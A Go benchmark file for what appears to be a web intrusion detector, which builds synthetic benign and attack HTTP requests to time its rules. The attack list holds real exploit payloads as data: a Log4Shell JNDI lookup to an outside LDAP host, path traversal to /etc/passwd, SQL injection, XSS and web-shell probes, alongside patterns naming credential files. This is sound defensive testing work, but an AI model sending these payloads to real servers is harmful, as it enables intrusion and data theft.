package detect

import (
	"fmt"
	"math/rand/v2"
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/expr-lang/expr/vm"
	"github.com/tocsin-project/tocsin/event"
)

// benignPaths are what a visitor of a blog asks for, a path and its query.
var benignPaths = []string{
	"/", "/about-us/", "/2024/05/spring-news/", "/wp-content/themes/twenty/style.css?ver=6.5.2", "/favicon.ico",
	"/wp-includes/js/jquery/jquery.min.js?ver=3.7.1", "/wp-content/uploads/2024/05/IMG_2041-1024x768.jpg",
	"/?s=how+to+bake+bread", "/wp-json/wp/v2/posts?per_page=10&page=2&_locale=user", "/shop/cart?item=4711&quantity=2",
	"/api/v1/users/me", "/feed/", "/search?q=%22two+words%22&lang=en&sort=date", "/category/recipes/page/3/",
}

var agents = []string{
	"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
	"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Mobile/15E148 Safari/604.1",
	"Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
}

// benign returns requests of clients that want no harm.
func benign(n, clients int) []*event.Event {
	rng := rand.New(rand.NewPCG(1, 2))
	events := make([]*event.Event, n)
	for i := range events {
		client := rng.IntN(clients)
		e := &event.Event{
			Client: netip.AddrFrom4([4]byte{192, 0, byte(client >> 8), byte(client)}), Method: "GET", Proto: "HTTP/2.0",
			Target: benignPaths[rng.IntN(len(benignPaths))], Host: "www.example.org", UserAgent: agents[client%len(agents)],
			Referer: "https://www.example.org/2024/05/spring-news/", Status: 200,
		}
		switch rng.IntN(20) {
		case 0:
			e.Status = 404
		case 1, 2:
			e.Status = 304
		case 3:
			e.Method = "POST"
		}
		events[i] = e
	}
	return events
}

var attackPaths = []string{
	"/wp-login.php", "/.env", "/.git/config", "/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "/phpmyadmin/index.php", "/xmlrpc.php",
	"/index.php?id=1%20union%20select%20user,password%20from%20users", "/search?q=<script>alert(1)</script>",
	"/solr/admin/cores?action=${jndi:ldap://203.0.113.7/a}", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
	"/?author=%d", "/backup-%d.sql.gz", "/download?file=../../../../etc/passwd", "/wp-content/plugins/plugin-%d/readme.txt",
	"/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession", "/shell%d.php", "/c99.php",
}

// attack returns requests of attackers, each with a new user agent.
func attack(n, clients int) []*event.Event {
	rng := rand.New(rand.NewPCG(3, 4))
	events := make([]*event.Event, n)
	for i := range events {
		client, target := rng.IntN(clients), attackPaths[rng.IntN(len(attackPaths))]
		for j := range len(target) - 1 {
			if target[j:j+2] == "%d" {
				target = fmt.Sprintf(target, rng.IntN(1000))
				break
			}
		}
		events[i] = &event.Event{
			Client: netip.AddrFrom4([4]byte{198, 51, byte(client >> 8), byte(client)}), Method: []string{"GET", "POST"}[rng.IntN(2)],
			Proto: "HTTP/1.1", Target: target, Host: "www.example.org",
			UserAgent: fmt.Sprintf("%x Scanner/%d.%d (%x; zgr%x)", rng.Uint64(), rng.IntN(9), rng.IntN(99), rng.Uint64(), rng.Uint32()),
			Status:    []int{200, 403, 404, 404}[rng.IntN(4)],
		}
	}
	return events
}

var began = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)

func benchmark(b *testing.B, events []*event.Event, early, late bool) {
	benchmarkRules(b, hubRules(b), events, early, late)
}

func benchmarkRules(b *testing.B, rules *Rules, events []*event.Event, early, late bool) {
	d := New(Config{Rules: rules})
	i := 0
	b.ReportAllocs()
	for b.Loop() {
		e := events[i%len(events)]
		e.Time = began.Add(time.Duration(i) * time.Millisecond)
		i++
		if early {
			d.Request(e)
		}
		if late {
			d.Response(e)
		}
	}
}

func BenchmarkBenign(b *testing.B) {
	events := benign(4096, 1000)
	b.Run("before the handler", func(b *testing.B) { benchmark(b, events, true, false) })
	b.Run("after it", func(b *testing.B) { benchmark(b, events, false, true) })
	b.Run("in all", func(b *testing.B) { benchmark(b, events, true, true) })
	b.Run("yardstick, the interpreter", func(b *testing.B) { benchmarkInterpreter(b, events) })
}

func BenchmarkAttack(b *testing.B) {
	events := attack(4096, 1000)
	b.Run("before the handler", func(b *testing.B) { benchmark(b, events, true, false) })
	b.Run("after it", func(b *testing.B) { benchmark(b, events, false, true) })
	b.Run("in all", func(b *testing.B) { benchmark(b, events, true, true) })
	b.Run("yardstick, the interpreter", func(b *testing.B) { benchmarkInterpreter(b, events) })
}

// BenchmarkHostile is a request made to take as long as it can: as much text as
// scenarios get to see, full of what makes them look closer.
func BenchmarkHostile(b *testing.B) {
	fill := func(s string) string { return strings.Repeat(s, 16_384/len(s)) }
	rules := Merge(builtinRules(b), hubRules(b))
	words := "xZgrabx xNiktox xMJ12botx arquivo.ptx "
	for _, row := range []struct {
		name          string
		target, agent string
	}{
		{"words in the agent", "/", fill(words)},
		{"patterns in the target", fill("/wp-a/tmui/login.jsp/..;/tmui/public/plugins/a/dana-na/login=poller_id=file=&lt;/td&gt;&lt;/trview=request/"), "a"},
		{"escapes in the target", fill("/%24%7b"), "a"},
		{"letters beyond ASCII", fill("/ſKıİ"), "a"},
		{"literals of a list in the path", "/" + strings.Repeat("a", 16_384/2) + strings.Repeat(
			"/.env/.git/.aws/.ssh/.azure/.kube/.docker/.htpasswd/.netrc/.pypirc/.pgpass/.bash_history/wp-config.php~.php.sw/id_.json", 16_384/2/115), "a"},
		{"words of lists in the query", "/?" + fill("%40%40versio javascript alert <sc "), "a"},
	} {
		e := benign(1, 1)[0]
		e.Method, e.Target, e.UserAgent, e.Status = "POST", row.target, row.agent, 404
		b.Run(row.name, func(b *testing.B) {
			benchmarkRules(b, rules, []*event.Event{e}, true, true)
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/float64(len(e.Target)+len(e.UserAgent)), "ns/byte")
		})
	}
}

// benchmarkInterpreter asks the filters alone, with no buckets, each as the
// interpreter of expressions understands it.
func benchmarkInterpreter(b *testing.B, events []*event.Event) {
	rules := hubRules(b)
	p := compile(rules, testIDs())
	var machine vm.VM
	var programs []*vm.Program
	for _, s := range rules.scenarios {
		programs = append(programs, s.filter.program())
	}
	i := 0
	b.ReportAllocs()
	for b.Loop() {
		e := events[i%len(events)]
		i++
		v := p.open(e, event.ClientOf(e.Client))
		for n, s := range rules.scenarios {
			if _, err := machine.Run(programs[n], exprEnv{v.environment()}); err != nil && s.filter.deps&fieldArgsLen.set() == 0 {
				b.Fatal(err)
			}
		}
		v.close()
	}
}

// testIDs numbers scenarios as a detector does.
func testIDs() func(*scenario) (uint32, *scenarioCount) {
	n := uint32(0)
	return func(*scenario) (uint32, *scenarioCount) { n++; return n, new(scenarioCount) }
}
